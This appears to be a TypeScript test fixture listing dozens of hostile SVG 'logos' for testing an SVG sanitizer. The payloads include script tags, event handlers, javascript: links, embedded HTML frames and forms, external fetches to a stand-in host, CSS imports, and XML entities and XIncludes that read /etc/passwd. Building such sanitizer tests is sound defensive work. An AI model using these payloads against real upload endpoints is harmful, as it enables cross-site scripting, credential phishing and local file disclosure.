import { drawing, shape } from './sample-svgs.ts';

/** Where everything that got out would send a request; nothing responds there. */
const hostileOrigin = 'https://hostile.example';

const request = `fetch('${hostileOrigin}/ran')`;
const script = `${request};alert(1)`;
const encoded = encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${request}"/>`);

/** Logos that try to run, to fetch or to lead elsewhere; each shows a shape besides, so that it may be taken. */
export const hostileSvgs: [name: string, svg: string][] = [
  ['a script', drawing(`<script>${script}</script>`)],
  ['a script in a CDATA section', drawing(`<script><![CDATA[${script}]]></script>`)],
  ['a script from elsewhere', drawing(`<script href="${hostileOrigin}/a.js"/>`)],
  ['a script from elsewhere by xlink', drawing(`<script xlink:href="${hostileOrigin}/a.js"/>`)],
  ['a script as a data URL', drawing(`<script href="data:text/javascript,${encodeURIComponent(script)}"/>`)],
  ['a script of another type', drawing(`<script type="module">${script}</script>`)],
  ['a script with a prefix', drawing(`<s:script xmlns:s="http://www.w3.org/2000/svg">${script}</s:script>`)],
  ['a script of HTML', drawing(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script>`)],
  ['a script within a group', drawing(`<g><g><g><script>${script}</script></g></g></g>`)],
  ['a script within a title', drawing(`<title><script>${script}</script></title>`)],
  ['a script within styles', drawing(`<style><script>${script}</script></style>`)],
  ['a script behind broken styles', drawing(`<style><![CDATA[</style><script>${script}</script>]]></style>`)],
  ['a handler on the root', drawing('', ` onload="${script}"`)],
  ['a handler in capitals', drawing('', ` ONLOAD="${script}"`)],
  [
    'a handler with letters as entities',
    drawing('', ' onload="&#102;etch(&#39;https://hostile.example/ran&#39;)"'),
  ],
  [
    'a handler on a shape',
    drawing(`<rect width="100" height="40" onmouseover="${script}" onclick="${script}"/>`),
  ],
  [
    'a handler that fires with the focus',
    drawing(`<a tabindex="0" autofocus="" onfocusin="${script}">${shape}</a>`),
  ],
  ['a handler of a failed picture', drawing(`<image href="x" onerror="${script}"/>`)],
  [
    'a handler of an animation',
    drawing(`<animate attributeName="x" dur="1ms" onbegin="${script}" onend="${script}"/>`),
  ],
  ['an animation that sets a handler', drawing(`<set attributeName="onload" to="${script}"/>`)],
  [
    'an animation that sets a URL',
    drawing(
      `<a id="a">${shape}</a><animate href="#a" attributeName="href" values="javascript:${script}" fill="freeze"/>`,
    ),
  ],
  ['a link that runs', drawing(`<a href="javascript:${script}">${shape}</a>`)],
  [
    'a link that runs, with a gap in the word',
    drawing(`<a xlink:href="java&#10;script:${script}">${shape}</a>`),
  ],
  [
    'a link that runs, as a data URL',
    drawing(
      `<a href="data:text/html,<script>${script}</script>">${shape}</a>`
        .replace('<script>', '&lt;script&gt;')
        .replace('</script>', '&lt;/script&gt;'),
    ),
  ],
  ['a link that leads away', drawing(`<a href="${hostileOrigin}/phishing">${shape}</a>`)],
  [
    'a page within',
    drawing(
      `<foreignObject width="100" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${script}"/></body></foreignObject>`,
    ),
  ],
  [
    'a frame within',
    drawing(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${script}"/></foreignObject>`,
    ),
  ],
  [
    'a form within',
    drawing(
      `<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="${hostileOrigin}/"><input name="password"/></form></foreignObject>`,
    ),
  ],
  [
    'an element of HTML without a wrapper',
    drawing(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${script}&lt;/script&gt;"/>`),
  ],
  [
    'an embedded object',
    drawing(
      `<object xmlns="http://www.w3.org/1999/xhtml" data="${hostileOrigin}/a.swf"/><embed src="${hostileOrigin}/a.swf"/>`,
    ),
  ],
  ['a picture from elsewhere', drawing(`<image href="${hostileOrigin}/a.png" width="9" height="9"/>`)],
  [
    'a picture from elsewhere by xlink',
    drawing(`<image xlink:href="//hostile.example/a.png" width="9" height="9"/>`),
  ],
  ['a picture of this server', drawing('<image href="/api/auth/me" width="9" height="9"/>')],
  ['a file of this server', drawing('<image href="file:///etc/passwd" width="9" height="9"/>')],
  [
    'a drawing within that runs',
    drawing(`<image href="data:image/svg+xml,${encoded}" width="9" height="9"/>`),
  ],
  ['a part of a foreign drawing', drawing(`<use href="${hostileOrigin}/a.svg#a"/>`)],
  ['a part of a data URL', drawing(`<use href="data:image/svg+xml,${encoded}#a"/>`)],
  [
    'a filter that fetches',
    drawing(
      `<filter id="f"><feImage href="${hostileOrigin}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  ],
  ['a fill from elsewhere', drawing(`<rect width="9" height="9" fill="url(${hostileOrigin}/a.svg#a)"/>`)],
  ['a mask from elsewhere', drawing(`<rect width="9" height="9" mask="url('${hostileOrigin}/a.svg#a')"/>`)],
  [
    'a style attribute that fetches',
    drawing(`<rect width="9" height="9" style="background:url(${hostileOrigin}/a.png)"/>`),
  ],
  [
    'a style attribute that hides its URL',
    drawing(`<rect width="9" height="9" style="fill:u\\72l(${hostileOrigin}/a.svg#a)"/>`),
  ],
  ['styles that import', drawing(`<style>@import url("${hostileOrigin}/a.css");</style>`)],
  ['styles that import without a sign', drawing(`<style>@import "${hostileOrigin}/a.css";</style>`)],
  [
    'styles with a font from elsewhere',
    drawing(
      `<style>@font-face{font-family:f;src:url(${hostileOrigin}/f.woff2)}text{font-family:f}</style><text y="9">a</text>`,
    ),
  ],
  [
    'styles that fetch',
    drawing(
      `<style>path{fill:url(${hostileOrigin}/a.svg#a);background-image:url(${hostileOrigin}/b.png)}</style>`,
    ),
  ],
  [
    'styles that fetch what they match',
    drawing(`<style>[id^="a"]{background:url(${hostileOrigin}/a)}</style>`),
  ],
  [
    'styles that choose among pictures',
    drawing(`<style>path{cursor:image-set("${hostileOrigin}/a.png" 1x),auto}</style>`),
  ],
  [
    'styles that run in old browsers',
    drawing(
      '<style>path{width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(x)}</style>',
    ),
  ],
  [
    'a style sheet by instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="${hostileOrigin}/a.css"?>${drawing('')}`,
  ],
  [
    'a transformation by instruction',
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent('<x/>')}"?>${drawing('')}`,
  ],
  [
    'an entity that reads a file',
    `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${drawing('<text y="9">&e;</text>')}`,
  ],
  [
    'an entity from elsewhere',
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${hostileOrigin}/p.dtd"> %p;]>${drawing('')}`,
  ],
  [
    'an entity that holds a script',
    `<!DOCTYPE svg [<!ENTITY e "<script>${script}</script>">]>${drawing('&e;')}`,
  ],
  ['a document type from elsewhere', `<!DOCTYPE svg SYSTEM "${hostileOrigin}/svg.dtd">${drawing('')}`],
  [
    'an attribute that breaks out',
    drawing(`<rect width="9" height="9" id="a&quot; onload=&quot;${script}"/>`),
  ],
  [
    'a text that breaks out',
    drawing(`<text y="9">&lt;/text&gt;&lt;script&gt;${script}&lt;/script&gt;</text>`),
  ],
  ['a comment that breaks out', drawing(`<!-- --><script>${script}</script><!-- -->`)],
  [
    'an included file',
    drawing(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
    ),
  ],
  [
    'an event listener as an element',
    drawing(
      `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">${script}</handler>`,
    ),
  ],
  ['a base for URLs', drawing('', ` xml:base="${hostileOrigin}/"`)],
];
